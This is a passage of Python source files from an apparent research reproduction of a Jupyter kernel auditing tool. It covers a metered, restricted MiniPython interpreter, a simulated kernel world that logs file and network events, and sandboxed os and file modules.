from repro.kernel.world import KernelWorld, ResourceMeter
from repro.util.errors import ResourceLimitError, SecurityViolation


class _ReturnSignal(Exception):
    def __init__(self, value):
        self.value = value


class _BreakSignal(Exception):
    pass


class _ContinueSignal(Exception):
    pass


#: Exceptions user code may raise and catch.
USER_EXCEPTIONS: Dict[str, type] = {
    "Exception": Exception,
    "ValueError": ValueError,
    "TypeError": TypeError,
    "KeyError": KeyError,
    "IndexError": IndexError,
    "ZeroDivisionError": ZeroDivisionError,
    "RuntimeError": RuntimeError,
    "StopIteration": StopIteration,
    "AttributeError": AttributeError,
    "NameError": NameError,
    "OSError": OSError,
    "FileNotFoundError": FileNotFoundError,
    "PermissionError": PermissionError,
    "ConnectionError": ConnectionError,
    "NotImplementedError": NotImplementedError,
    "ArithmeticError": ArithmeticError,
    "OverflowError": OverflowError,
}

#: Control-flow and sandbox exceptions that user ``except`` must never catch.
_UNCATCHABLE = (_ReturnSignal, _BreakSignal, _ContinueSignal, ResourceLimitError, SecurityViolation)

_BIN_OPS = {
    ast.Add: operator.add,
    ast.Sub: operator.sub,
    ast.Mult: operator.mul,
    ast.Div: operator.truediv,
    ast.FloorDiv: operator.floordiv,
    ast.Mod: operator.mod,
    ast.Pow: operator.pow,
    ast.LShift: operator.lshift,
    ast.RShift: operator.rshift,
    ast.BitOr: operator.or_,
    ast.BitAnd: operator.and_,
    ast.BitXor: operator.xor,
    ast.MatMult: operator.matmul,
}

_UNARY_OPS = {
    ast.UAdd: operator.pos,
    ast.USub: operator.neg,
    ast.Not: operator.not_,
    ast.Invert: operator.invert,
}

_CMP_OPS = {
    ast.Eq: operator.eq,
    ast.NotEq: operator.ne,
    ast.Lt: operator.lt,
    ast.LtE: operator.le,
    ast.Gt: operator.gt,
    ast.GtE: operator.ge,
    ast.Is: operator.is_,
    ast.IsNot: operator.is_not,
    ast.In: lambda a, b: a in b,
    ast.NotIn: lambda a, b: a not in b,
}


@dataclass
class UserFunction:
    """A function defined by cell code (closure over its defining env).

    Carries a back-reference to its interpreter so builtins that take
    callables (``min(key=...)``, ``map``, ``sorted(key=...)``) can invoke
    it like any Python callable — the call is still metered and
    depth-limited because it re-enters the interpreter.
    """

    name: str
    params: List[str]
    defaults: List[Any]
    body: List[ast.stmt]
    closure: "Environment"
    interp: Any = None

    def __call__(self, *args: Any, **kwargs: Any) -> Any:
        if self.interp is None:
            raise TypeError(f"function {self.name} is not bound to an interpreter")
        return self.interp._call_user_function(self, list(args), kwargs)

    def __repr__(self) -> str:
        return f"<function {self.name}>"


class Environment:
    """A lexical scope chain."""

    __slots__ = ("vars", "parent", "globals_decl")

    def __init__(self, parent: Optional["Environment"] = None):
        self.vars: Dict[str, Any] = {}
        self.parent = parent
        self.globals_decl: set[str] = set()

    def lookup(self, name: str) -> Any:
        env: Optional[Environment] = self
        while env is not None:
            if name in env.vars:
                return env.vars[name]
            env = env.parent
        raise NameError(f"name '{name}' is not defined")

    def assign(self, name: str, value: Any) -> None:
        if name in self.globals_decl:
            self.root().vars[name] = value
        else:
            self.vars[name] = value

    def delete(self, name: str) -> None:
        if name in self.vars:
            del self.vars[name]
            return
        raise NameError(f"name '{name}' is not defined")

    def root(self) -> "Environment":
        env = self
        while env.parent is not None:
            env = env.parent
        return env


@dataclass
class ExecOutcome:
    """Result of executing one cell."""

    status: str  # "ok" | "error"
    result: Any = None  # value of the final expression, if any
    stdout: str = ""
    stderr: str = ""
    ename: str = ""
    evalue: str = ""
    traceback: List[str] = field(default_factory=list)
    meter: Optional[ResourceMeter] = None


class MiniPython:
    """The interpreter.  One instance per kernel; state persists across cells."""

    MAX_CALL_DEPTH = 64

    def __init__(
        self,
        world: Optional[KernelWorld] = None,
        *,
        modules: Optional[Dict[str, Any]] = None,
        max_ops: int = 50_000_000,
        pre_execute_hooks: Optional[List[Callable[[str], None]]] = None,
    ):
        from repro.kernel.modules import build_module_registry, make_open

        self.world = world or KernelWorld()
        self.max_ops = max_ops
        self.globals = Environment()
        self.meter = ResourceMeter(max_ops=max_ops)
        self._stdout: List[str] = []
        self._stderr: List[str] = []
        self._call_depth = 0
        self.modules = modules if modules is not None else build_module_registry(self.world, self)
        self.pre_execute_hooks = pre_execute_hooks or []
        self._builtins = self._make_builtins()
        self._builtins["open"] = make_open(self.world, self)

    # ------------------------------------------------------------------ builtins
    def _make_builtins(self) -> Dict[str, Any]:
        def _print(*args, sep=" ", end="\n", file=None):
            text = sep.join(str(a) for a in args) + end
            if file == "stderr":
                self._stderr.append(text)
            else:
                self._stdout.append(text)

        safe = {
            "print": _print,
            "len": len, "range": range, "sum": sum, "min": min, "max": max,
            "abs": abs, "round": round, "sorted": sorted, "reversed": reversed,
            "enumerate": enumerate, "zip": zip, "map": map, "filter": filter,
            "str": str, "int": int, "float": float, "bool": bool, "list": list,
            "dict": dict, "set": set, "tuple": tuple, "bytes": bytes,
            "bytearray": bytearray, "frozenset": frozenset,
            "ord": ord, "chr": chr, "hex": hex, "bin": bin, "oct": oct,
            "any": any, "all": all, "isinstance": isinstance, "repr": repr,
            "divmod": divmod, "pow": pow, "hash": hash, "iter": iter, "next": next,
            "format": format, "None": None, "True": True, "False": False,
        }
        safe.update(USER_EXCEPTIONS)
        return safe

    # ------------------------------------------------------------------ execution
    def execute(self, code: str) -> ExecOutcome:
        """Parse and run one cell; never raises for user-level errors."""
        self._stdout, self._stderr = [], []
        self.meter = ResourceMeter(max_ops=self.max_ops)
        self.world.emit("exec_start", code=code)
        try:
            for hook in self.pre_execute_hooks:
                hook(code)
        except SecurityViolation as e:
            self.world.emit("exec_end", status="error", ename="SecurityViolation")
            return ExecOutcome("error", ename="SecurityViolation", evalue=str(e),
                               traceback=[f"SecurityViolation: {e}"], meter=self.meter)
        result: Any = None
        try:
            tree = ast.parse(code, mode="exec")
        except SyntaxError as e:
            self.world.emit("exec_end", status="error", ename="SyntaxError")
            return ExecOutcome("error", ename="SyntaxError", evalue=str(e),
                               traceback=[f"SyntaxError: {e}"], meter=self.meter)
        try:
            for i, stmt in enumerate(tree.body):
                if isinstance(stmt, ast.Expr) and i == len(tree.body) - 1:
                    result = self._eval(stmt.value, self.globals)
                else:
                    self._exec_stmt(stmt, self.globals)
        except _UNCATCHABLE[:3] as e:  # stray return/break/continue at top level
            self.world.emit("exec_end", status="error", ename="SyntaxError")
            return ExecOutcome("error", stdout="".join(self._stdout), stderr="".join(self._stderr),
                               ename="SyntaxError", evalue=f"{type(e).__name__} outside function/loop",
                               traceback=["SyntaxError"], meter=self.meter)
        except (ResourceLimitError, SecurityViolation) as e:
            ename = type(e).__name__
            self.world.emit("exec_end", status="error", ename=ename)
            return ExecOutcome("error", stdout="".join(self._stdout), stderr="".join(self._stderr),
                               ename=ename, evalue=str(e), traceback=[f"{ename}: {e}"], meter=self.meter)
        except Exception as e:  # user-level error
            ename = type(e).__name__
            self.world.emit("exec_end", status="error", ename=ename)
            return ExecOutcome("error", stdout="".join(self._stdout), stderr="".join(self._stderr),
                               ename=ename, evalue=str(e), traceback=[f"{ename}: {e}"], meter=self.meter)
        self.world.emit("exec_end", status="ok")
        return ExecOutcome("ok", result=result, stdout="".join(self._stdout),
                           stderr="".join(self._stderr), meter=self.meter)

    # ------------------------------------------------------------------ statements
    def _exec_block(self, body: List[ast.stmt], env: Environment) -> None:
        for stmt in body:
            self._exec_stmt(stmt, env)

    def _exec_stmt(self, node: ast.stmt, env: Environment) -> None:
        self.meter.tick()
        method = getattr(self, f"_stmt_{type(node).__name__}", None)
        if method is None:
            raise SecurityViolation(
                f"statement {type(node).__name__} is not allowed in the kernel subset",
                policy="language-subset",
            )
        method(node, env)

    def _stmt_Expr(self, node: ast.Expr, env: Environment) -> None:
        self._eval(node.value, env)

    def _stmt_Assign(self, node: ast.Assign, env: Environment) -> None:
        value = self._eval(node.value, env)
        for target in node.targets:
            self._assign_target(target, value, env)

    def _stmt_AnnAssign(self, node: ast.AnnAssign, env: Environment) -> None:
        if node.value is not None:
            self._assign_target(node.target, self._eval(node.value, env), env)

    def _stmt_AugAssign(self, node: ast.AugAssign, env: Environment) -> None:
        op = _BIN_OPS[type(node.op)]
        if isinstance(node.target, ast.Name):
            current = env.lookup(node.target.id)
            env.assign(node.target.id, op(current, self._eval(node.value, env)))
        elif isinstance(node.target, ast.Subscript):
            container = self._eval(node.target.value, env)
            key = self._eval_subscript_key(node.target.slice, env)
            container[key] = op(container[key], self._eval(node.value, env))
        else:
            raise SecurityViolation("unsupported augmented-assignment target", policy="language-subset")

    def _assign_target(self, target: ast.expr, value: Any, env: Environment) -> None:
        if isinstance(target, ast.Name):
            env.assign(target.id, value)
        elif isinstance(target, (ast.Tuple, ast.List)):
            values = list(value)
            if len(values) != len(target.elts):
                raise ValueError(f"cannot unpack {len(values)} values into {len(target.elts)} targets")
            for t, v in zip(target.elts, values):
                self._assign_target(t, v, env)
        elif isinstance(target, ast.Subscript):
            container = self._eval(target.value, env)
            container[self._eval_subscript_key(target.slice, env)] = value
        else:
            raise SecurityViolation(
                f"assignment target {type(target).__name__} not allowed", policy="language-subset"
            )

    def _stmt_Delete(self, node: ast.Delete, env: Environment) -> None:
        for target in node.targets:
            if isinstance(target, ast.Name):
                env.delete(target.id)
            elif isinstance(target, ast.Subscript):
                container = self._eval(target.value, env)
                del container[self._eval_subscript_key(target.slice, env)]
            else:
                raise SecurityViolation("unsupported del target", policy="language-subset")

    def _stmt_If(self, node: ast.If, env: Environment) -> None:
        if self._eval(node.test, env):
            self._exec_block(node.body, env)
        else:
            self._exec_block(node.orelse, env)

    def _stmt_While(self, node: ast.While, env: Environment) -> None:
        while self._eval(node.test, env):
            self.meter.tick()
            try:
                self._exec_block(node.body, env)
            except _BreakSignal:
                break
            except _ContinueSignal:
                continue
        else:
            self._exec_block(node.orelse, env)

    def _stmt_For(self, node: ast.For, env: Environment) -> None:
        iterable = self._eval(node.iter, env)
        broke = False
        for item in iterable:
            self.meter.tick()
            self._assign_target(node.target, item, env)
            try:
                self._exec_block(node.body, env)
            except _BreakSignal:
                broke = True
                break
            except _ContinueSignal:
                continue
        if not broke:
            self._exec_block(node.orelse, env)

    def _stmt_FunctionDef(self, node: ast.FunctionDef, env: Environment) -> None:
        args = node.args
        if args.vararg or args.kwarg or args.kwonlyargs or args.posonlyargs:
            raise SecurityViolation("only plain positional parameters supported", policy="language-subset")
        params = [a.arg for a in args.args]
        defaults = [self._eval(d, env) for d in args.defaults]
        env.assign(node.name, UserFunction(node.name, params, defaults, node.body, env, self))

    def _stmt_Return(self, node: ast.Return, env: Environment) -> None:
        raise _ReturnSignal(self._eval(node.value, env) if node.value else None)

    def _stmt_Break(self, node: ast.Break, env: Environment) -> None:
        raise _BreakSignal()

    def _stmt_Continue(self, node: ast.Continue, env: Environment) -> None:
        raise _ContinueSignal()

    def _stmt_Pass(self, node: ast.Pass, env: Environment) -> None:
        pass

    def _stmt_Global(self, node: ast.Global, env: Environment) -> None:
        env.globals_decl.update(node.names)

    def _stmt_Assert(self, node: ast.Assert, env: Environment) -> None:
        if not self._eval(node.test, env):
            msg = self._eval(node.msg, env) if node.msg else ""
            raise AssertionError(msg)

    def _stmt_Raise(self, node: ast.Raise, env: Environment) -> None:
        if node.exc is None:
            raise RuntimeError("re-raise outside except block unsupported")
        exc = self._eval(node.exc, env)
        if isinstance(exc, type) and issubclass(exc, Exception):
            exc = exc()
        if not isinstance(exc, Exception) or isinstance(exc, _UNCATCHABLE):
            raise TypeError("can only raise Exception instances")
        raise exc

    def _stmt_Try(self, node: ast.Try, env: Environment) -> None:
        try:
            self._exec_block(node.body, env)
        except _UNCATCHABLE:
            raise
        except Exception as e:
            for handler in node.handlers:
                if self._handler_matches(handler, e, env):
                    if handler.name:
                        env.assign(handler.name, e)
                    self._exec_block(handler.body, env)
                    break
            else:
                raise
        else:
            self._exec_block(node.orelse, env)
        finally:
            self._exec_block(node.finalbody, env)

    def _handler_matches(self, handler: ast.ExceptHandler, exc: Exception, env: Environment) -> bool:
        if handler.type is None:
            return True
        spec = self._eval(handler.type, env)
        specs = spec if isinstance(spec, tuple) else (spec,)
        return any(isinstance(exc, s) for s in specs if isinstance(s, type))

    def _stmt_Import(self, node: ast.Import, env: Environment) -> None:
        for alias in node.names:
            module = self._import_module(alias.name)
            env.assign(alias.asname or alias.name.split(".")[0], module)

    def _stmt_ImportFrom(self, node: ast.ImportFrom, env: Environment) -> None:
        module = self._import_module(node.module or "")
        for alias in node.names:
            if alias.name == "*":
                raise SecurityViolation("star imports not allowed", policy="language-subset")
            try:
                value = self._get_attribute(module, alias.name)
            except AttributeError:
                raise NameError(f"cannot import name {alias.name!r} from {node.module!r}") from None
            env.assign(alias.asname or alias.name, value)

    def _import_module(self, name: str) -> Any:
        root = name.split(".")[0]
        if root not in self.modules:
            raise NameError(f"No module named {root!r}")
        self.world.emit("import", module=name)
        module: Any = self.modules[root]
        for part in name.split(".")[1:]:
            module = self._get_attribute(module, part)
        return module

    # ------------------------------------------------------------------ expressions
    def _eval(self, node: Optional[ast.expr], env: Environment) -> Any:
        if node is None:
            return None
        self.meter.tick()
        method = getattr(self, f"_expr_{type(node).__name__}", None)
        if method is None:
            raise SecurityViolation(
                f"expression {type(node).__name__} is not allowed in the kernel subset",
                policy="language-subset",
            )
        return method(node, env)

    def _expr_Constant(self, node: ast.Constant, env: Environment) -> Any:
        return node.value

    def _expr_Name(self, node: ast.Name, env: Environment) -> Any:
        try:
            return env.lookup(node.id)
        except NameError:
            if node.id in self._builtins:
                return self._builtins[node.id]
            raise

    def _expr_BinOp(self, node: ast.BinOp, env: Environment) -> Any:
        return _BIN_OPS[type(node.op)](self._eval(node.left, env), self._eval(node.right, env))

    def _expr_UnaryOp(self, node: ast.UnaryOp, env: Environment) -> Any:
        return _UNARY_OPS[type(node.op)](self._eval(node.operand, env))

    def _expr_BoolOp(self, node: ast.BoolOp, env: Environment) -> Any:
        if isinstance(node.op, ast.And):
            value = True
            for v in node.values:
                value = self._eval(v, env)
                if not value:
                    return value
            return value
        value = False
        for v in node.values:
            value = self._eval(v, env)
            if value:
                return value
        return value

    def _expr_Compare(self, node: ast.Compare, env: Environment) -> bool:
        left = self._eval(node.left, env)
        for op, comparator in zip(node.ops, node.comparators):
            right = self._eval(comparator, env)
            if not _CMP_OPS[type(op)](left, right):
                return False
            left = right
        return True

    def _expr_IfExp(self, node: ast.IfExp, env: Environment) -> Any:
        return self._eval(node.body, env) if self._eval(node.test, env) else self._eval(node.orelse, env)

    def _expr_Call(self, node: ast.Call, env: Environment) -> Any:
        func = self._eval(node.func, env)
        args = []
        for a in node.args:
            if isinstance(a, ast.Starred):
                args.extend(self._eval(a.value, env))
            else:
                args.append(self._eval(a, env))
        kwargs = {}
        for kw in node.keywords:
            if kw.arg is None:
                kwargs.update(self._eval(kw.value, env))
            else:
                kwargs[kw.arg] = self._eval(kw.value, env)
        return self._call(func, args, kwargs)

    def _call(self, func: Any, args: List[Any], kwargs: Dict[str, Any]) -> Any:
        if isinstance(func, UserFunction):
            return self._call_user_function(func, args, kwargs)
        if callable(func):
            return func(*args, **kwargs)
        raise TypeError(f"{func!r} is not callable")

    def _call_user_function(self, func: UserFunction, args: List[Any], kwargs: Dict[str, Any]) -> Any:
        if self._call_depth >= self.MAX_CALL_DEPTH:
            raise ResourceLimitError(
                f"recursion depth exceeded ({self.MAX_CALL_DEPTH})",
                resource="call_depth", limit=self.MAX_CALL_DEPTH, used=self._call_depth,
            )
        local = Environment(parent=func.closure)
        n_required = len(func.params) - len(func.defaults)
        bound = dict(zip(func.params, args))
        for name, default in zip(func.params[n_required:], func.defaults):
            bound.setdefault(name, default)
        for name, value in kwargs.items():
            if name not in func.params:
                raise TypeError(f"{func.name}() got an unexpected keyword argument {name!r}")
            if name in dict(zip(func.params, args)):
                raise TypeError(f"{func.name}() got multiple values for argument {name!r}")
            bound[name] = value
        missing = [p for p in func.params if p not in bound]
        if missing:
            raise TypeError(f"{func.name}() missing required arguments: {missing}")
        if len(args) > len(func.params):
            raise TypeError(f"{func.name}() takes {len(func.params)} arguments but {len(args)} were given")
        local.vars.update(bound)
        self._call_depth += 1
        try:
            self._exec_block(func.body, local)
        except _ReturnSignal as r:
            return r.value
        finally:
            self._call_depth -= 1
        return None

    def _expr_Attribute(self, node: ast.Attribute, env: Environment) -> Any:
        obj = self._eval(node.value, env)
        return self._get_attribute(obj, node.attr)

    def _get_attribute(self, obj: Any, name: str) -> Any:
        if name.startswith("_"):
            raise SecurityViolation(
                f"access to private attribute {name!r} is blocked", policy="no-dunder",
            )
        value = getattr(obj, name)
        # Reject anything that looks like an interpreter internal leaking out.
        if isinstance(value, type) and value not in tuple(USER_EXCEPTIONS.values()):
            raise SecurityViolation(f"access to type object {name!r} is blocked", policy="no-types")
        return value

    def _expr_Subscript(self, node: ast.Subscript, env: Environment) -> Any:
        container = self._eval(node.value, env)
        return container[self._eval_subscript_key(node.slice, env)]

    def _eval_subscript_key(self, slc: ast.expr, env: Environment) -> Any:
        if isinstance(slc, ast.Slice):
            return slice(
                self._eval(slc.lower, env) if slc.lower else None,
                self._eval(slc.upper, env) if slc.upper else None,
                self._eval(slc.step, env) if slc.step else None,
            )
        return self._eval(slc, env)

    def _expr_List(self, node: ast.List, env: Environment) -> list:
        return [self._eval(e, env) for e in node.elts]

    def _expr_Tuple(self, node: ast.Tuple, env: Environment) -> tuple:
        return tuple(self._eval(e, env) for e in node.elts)

    def _expr_Set(self, node: ast.Set, env: Environment) -> set:
        return {self._eval(e, env) for e in node.elts}

    def _expr_Dict(self, node: ast.Dict, env: Environment) -> dict:
        out = {}
        for k, v in zip(node.keys, node.values):
            if k is None:  # {**other}
                out.update(self._eval(v, env))
            else:
                out[self._eval(k, env)] = self._eval(v, env)
        return out

    def _expr_JoinedStr(self, node: ast.JoinedStr, env: Environment) -> str:
        parts = []
        for value in node.values:
            if isinstance(value, ast.FormattedValue):
                v = self._eval(value.value, env)
                if value.conversion == ord("r"):
                    v = repr(v)
                elif value.conversion == ord("s"):
                    v = str(v)
                elif value.conversion == ord("a"):
                    v = ascii(v)
                spec = self._eval(value.format_spec, env) if value.format_spec else ""
                parts.append(format(v, spec))
            else:
                parts.append(str(self._eval(value, env)))
        return "".join(parts)

    def _expr_FormattedValue(self, node: ast.FormattedValue, env: Environment) -> str:
        return str(self._eval(node.value, env))

    def _expr_Lambda(self, node: ast.Lambda, env: Environment) -> UserFunction:
        args = node.args
        if args.vararg or args.kwarg or args.kwonlyargs or args.posonlyargs:
            raise SecurityViolation("only plain positional parameters supported", policy="language-subset")
        params = [a.arg for a in args.args]
        defaults = [self._eval(d, env) for d in args.defaults]
        body = [ast.Return(value=node.body)]
        return UserFunction("<lambda>", params, defaults, body, env, self)

    def _comprehension_iter(self, generators: List[ast.comprehension], env: Environment, emit):
        def rec(i: int, scope: Environment):
            if i == len(generators):
                emit(scope)
                return
            gen = generators[i]
            if gen.is_async:
                raise SecurityViolation("async comprehensions not allowed", policy="language-subset")
            for item in self._eval(gen.iter, scope):
                self.meter.tick()
                inner = Environment(parent=scope)
                self._assign_target(gen.target, item, inner)
                if all(self._eval(cond, inner) for cond in gen.ifs):
                    rec(i + 1, inner)

        rec(0, env)

    def _expr_ListComp(self, node: ast.ListComp, env: Environment) -> list:
        out: List[Any] = []
        self._comprehension_iter(node.generators, env, lambda scope: out.append(self._eval(node.elt, scope)))
        return out

    def _expr_SetComp(self, node: ast.SetComp, env: Environment) -> set:
        out: set = set()
        self._comprehension_iter(node.generators, env, lambda scope: out.add(self._eval(node.elt, scope)))
        return out

    def _expr_DictComp(self, node: ast.DictComp, env: Environment) -> dict:
        out: dict = {}

        def emit(scope):
            out[self._eval(node.key, scope)] = self._eval(node.value, scope)

        self._comprehension_iter(node.generators, env, emit)
        return out

    def _expr_GeneratorExp(self, node: ast.GeneratorExp, env: Environment) -> list:
        # Materialized eagerly; fine for the metered subset.
        out: List[Any] = []
        self._comprehension_iter(node.generators, env, lambda scope: out.append(self._eval(node.elt, scope)))
        return out

    def _expr_Starred(self, node: ast.Starred, env: Environment) -> Any:
        raise SecurityViolation("starred expression outside call", policy="language-subset")
