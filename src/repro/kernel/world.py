"""The kernel's view of the world: filesystem, network, resources, events.

Every side effect a cell performs flows through :class:`KernelWorld`,
which emits :class:`KernelEvent` records — the syscall-level trace the
paper's proposed "Jupyter kernel auditing tool" consumes.  The
:class:`ResourceMeter` converts interpreter work into simulated CPU
seconds so resource-abuse (cryptomining) is measurable.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional

from repro.util.clock import Clock, SimClock
from repro.util.errors import ResourceLimitError
from repro.vfs import VirtualFS


@dataclass(frozen=True)
class KernelEvent:
    """One audited kernel action (file/net/exec/import)."""

    ts: float
    kind: str  # "file_read" | "file_write" | "file_delete" | "file_rename" |
    #            "net_connect" | "net_send" | "net_recv" | "import" | "exec_start" | "exec_end"
    detail: Dict[str, Any]


#: Interpreter operations per simulated CPU-second.  Calibrated so a tight
#: mining loop (~1e6 ops) registers whole seconds of CPU while a typical
#: analysis cell (~1e3 ops) costs a millisecond.
OPS_PER_CPU_SECOND = 1_000_000.0

#: Simulated cost of one hash invocation, in interpreter ops.  SHA-256 is
#: far more expensive than a bytecode op; this keeps miners hot.
HASH_CALL_OPS = 500


class ResourceMeter:
    """Per-execution resource accounting with budgets."""

    def __init__(self, *, max_ops: int = 50_000_000, max_file_bytes: int = 1 << 30,
                 max_net_bytes: int = 1 << 30):
        self.max_ops = max_ops
        self.max_file_bytes = max_file_bytes
        self.max_net_bytes = max_net_bytes
        self.ops = 0
        self.hash_calls = 0
        self.file_bytes = 0
        self.net_bytes_sent = 0
        self.net_bytes_received = 0
        self.sleep_seconds = 0.0

    def tick(self, n: int = 1) -> None:
        self.ops += n
        if self.ops > self.max_ops:
            raise ResourceLimitError(
                f"op budget exceeded ({self.ops} > {self.max_ops})",
                resource="ops", limit=self.max_ops, used=self.ops,
            )

    def charge_hash(self) -> None:
        self.hash_calls += 1
        self.tick(HASH_CALL_OPS)

    def charge_file(self, nbytes: int) -> None:
        self.file_bytes += nbytes
        if self.file_bytes > self.max_file_bytes:
            raise ResourceLimitError(
                "file I/O budget exceeded", resource="file_bytes",
                limit=self.max_file_bytes, used=self.file_bytes,
            )

    def charge_net(self, nbytes: int, *, sent: bool = True) -> None:
        if sent:
            self.net_bytes_sent += nbytes
        else:
            self.net_bytes_received += nbytes
        total = self.net_bytes_sent + self.net_bytes_received
        if total > self.max_net_bytes:
            raise ResourceLimitError(
                "network budget exceeded", resource="net_bytes",
                limit=self.max_net_bytes, used=total,
            )

    @property
    def cpu_seconds(self) -> float:
        return self.ops / OPS_PER_CPU_SECOND

    @property
    def duration_seconds(self) -> float:
        """Simulated wall time of the execution: CPU plus sleeps."""
        return self.cpu_seconds + self.sleep_seconds

    def snapshot(self) -> Dict[str, float]:
        return {
            "ops": self.ops,
            "cpu_seconds": self.cpu_seconds,
            "hash_calls": self.hash_calls,
            "file_bytes": self.file_bytes,
            "net_bytes_sent": self.net_bytes_sent,
            "net_bytes_received": self.net_bytes_received,
            "sleep_seconds": self.sleep_seconds,
        }


class KernelWorld:
    """Bindings from interpreter-visible modules to the simulation.

    ``connect`` is a callable ``(host: str, port: int) -> duplex`` the
    server wires to simnet (or a honeypot wires to its recorder); when
    absent, network operations fail like an air-gapped node.
    """

    def __init__(
        self,
        *,
        fs: Optional[VirtualFS] = None,
        clock: Optional[Clock] = None,
        connect: Optional[Callable[[str, int], Any]] = None,
        username: str = "scientist",
        home: str = "home",
    ):
        self.clock = clock or SimClock()
        self.fs = fs if fs is not None else VirtualFS(self.clock)
        self.connect = connect
        self.username = username
        self.home = home
        self.events: List[KernelEvent] = []
        self._subscribers: List[Callable[[KernelEvent], None]] = []
        if not self.fs.is_dir(home):
            self.fs.mkdir(home)

    def subscribe(self, fn: Callable[[KernelEvent], None]) -> None:
        self._subscribers.append(fn)

    def emit(self, kind: str, **detail: Any) -> None:
        ev = KernelEvent(self.clock.now(), kind, detail)
        self.events.append(ev)
        for fn in self._subscribers:
            fn(ev)

    def resolve_path(self, path: str) -> str:
        """Interpret relative paths against the user's home directory."""
        if path.startswith("/"):
            return path.lstrip("/")
        return f"{self.home}/{path}" if self.home else path

    def events_of(self, kind: str) -> List[KernelEvent]:
        return [e for e in self.events if e.kind == kind]
