"""Simulated importable modules for the MiniPython kernel.

Each module is a :class:`SimModule` whose functions act on the
:class:`~repro.kernel.world.KernelWorld` — so ``open('data.csv','w')``
writes the virtual filesystem, ``socket.socket().connect(...)`` opens a
simnet connection, and ``hashlib.sha256`` charges the resource meter the
way real hashing burns CPU.  Every side-effecting call also emits a
:class:`~repro.kernel.world.KernelEvent`, which is the raw material of
the paper's kernel auditing tool.
"""

from __future__ import annotations

import hashlib as _real_hashlib
import math as _real_math
from typing import TYPE_CHECKING, Any, Callable, Dict, List, Optional, Tuple

from repro.util.errors import SecurityViolation
from repro.util.rng import DeterministicRNG
from repro.vfs import VfsError

if TYPE_CHECKING:  # pragma: no cover
    from repro.kernel.interp import MiniPython
    from repro.kernel.world import KernelWorld


class SimModule:
    """A namespace object the interpreter can getattr on."""

    def __init__(self, name: str, members: Dict[str, Any]):
        self.__sim_name__ = name
        for key, value in members.items():
            setattr(self, key, value)

    def __repr__(self) -> str:  # pragma: no cover
        return f"<simulated module {self.__sim_name__!r}>"


# ---------------------------------------------------------------------------
# open() and the file object
# ---------------------------------------------------------------------------


class SimFile:
    """File handle over the virtual filesystem."""

    def __init__(self, world: "KernelWorld", path: str, mode: str, interp: "MiniPython"):
        self._world = world
        self._interp = interp
        self._vpath = world.resolve_path(path)
        self._mode = mode
        self._closed = False
        self._write_buffer: List[bytes] = []
        self._binary = "b" in mode
        if "r" in mode:
            raw = world.fs.read(self._vpath)
            interp.meter.charge_file(len(raw))
            world.emit("file_read", path=self._vpath, nbytes=len(raw))
            self._read_data: Optional[bytes] = raw
            self._read_pos = 0
        elif "w" in mode or "a" in mode:
            self._read_data = None
            if "a" in mode and world.fs.is_file(self._vpath):
                self._write_buffer.append(world.fs.read(self._vpath))
        else:
            raise ValueError(f"unsupported file mode {mode!r}")

    def read(self, n: int = -1):
        if self._closed or self._read_data is None:
            raise ValueError("file not open for reading")
        data = self._read_data[self._read_pos:] if n < 0 else self._read_data[self._read_pos : self._read_pos + n]
        self._read_pos += len(data)
        return data if self._binary else data.decode("utf-8", "replace")

    def readlines(self):
        text = self.read()
        if self._binary:
            return text.split(b"\n")
        return [line + "\n" for line in text.split("\n") if line] if text else []

    def write(self, data) -> int:
        if self._closed or self._read_data is not None:
            raise ValueError("file not open for writing")
        raw = data if isinstance(data, (bytes, bytearray)) else str(data).encode("utf-8")
        self._write_buffer.append(bytes(raw))
        return len(raw)

    def close(self) -> None:
        if self._closed:
            return
        self._closed = True
        if self._read_data is None:
            content = b"".join(self._write_buffer)
            self._interp.meter.charge_file(len(content))
            self._world.fs.write(self._vpath, content)
            self._world.emit("file_write", path=self._vpath, nbytes=len(content))


def make_open(world: "KernelWorld", interp: "MiniPython") -> Callable:
    def sim_open(path: str, mode: str = "r"):
        try:
            return SimFile(world, path, mode, interp)
        except VfsError as e:
            raise FileNotFoundError(str(e)) from None

    return sim_open


# ---------------------------------------------------------------------------
# os
# ---------------------------------------------------------------------------


def _make_os(world: "KernelWorld", interp: "MiniPython") -> SimModule:
    def listdir(path: str = "."):
        vpath = world.resolve_path("" if path == "." else path)
        return world.fs.listdir(vpath)

    def remove(path: str):
        vpath = world.resolve_path(path)
        try:
            world.fs.delete(vpath)
        except VfsError as e:
            raise FileNotFoundError(str(e)) from None
        world.emit("file_delete", path=vpath)

    def rename(src: str, dst: str):
        vsrc, vdst = world.resolve_path(src), world.resolve_path(dst)
        try:
            world.fs.rename(vsrc, vdst)
        except VfsError as e:
            raise OSError(str(e)) from None
        world.emit("file_rename", src=vsrc, dst=vdst)

    def mkdir(path: str):
        world.fs.mkdir(world.resolve_path(path))

    def system(command: str):
        # There is no shell in the simulated kernel; the *attempt* is the
        # signal.  The auditor treats this event as high severity.
        world.emit("proc_spawn", command=command)
        raise PermissionError("os.system is disabled in this kernel")

    def getcwd():
        return "/" + world.home

    def walk_paths(path: str = "."):
        vpath = world.resolve_path("" if path == "." else path)
        return list(world.fs.walk(vpath))

    path_mod = SimModule(
        "os.path",
        {
            "join": lambda *parts: "/".join(p.strip("/") for p in parts if p),
            "exists": lambda p: world.fs.exists(world.resolve_path(p)),
            "isfile": lambda p: world.fs.is_file(world.resolve_path(p)),
            "isdir": lambda p: world.fs.is_dir(world.resolve_path(p)),
            "basename": lambda p: p.rstrip("/").rsplit("/", 1)[-1],
            "dirname": lambda p: p.rstrip("/").rsplit("/", 1)[0] if "/" in p.rstrip("/") else "",
            "splitext": lambda p: (p.rsplit(".", 1)[0], "." + p.rsplit(".", 1)[1]) if "." in p.rsplit("/", 1)[-1] else (p, ""),
            "getsize": lambda p: len(world.fs.read(world.resolve_path(p))),
        },
    )

    return SimModule(
        "os",
        {
            "listdir": listdir,
            "remove": remove,
            "unlink": remove,
            "rename": rename,
            "mkdir": mkdir,
            "makedirs": mkdir,
            "system": system,
            "getcwd": getcwd,
            "walk_paths": walk_paths,
            "environ": {"USER": world.username, "HOME": "/" + world.home, "JUPYTER_TOKEN": ""},
            "path": path_mod,
            "sep": "/",
        },
    )


# ---------------------------------------------------------------------------
# socket / requests
# ---------------------------------------------------------------------------


class SimSocket:
    """A client TCP socket bound to the kernel's network stack."""

    def __init__(self, world: "KernelWorld", interp: "MiniPython"):
        self._world = world
        self._interp = interp
        self._chan = None
        self._recv_buffer = b""
        self.connected_to: Optional[Tuple[str, int]] = None

    def connect(self, address):
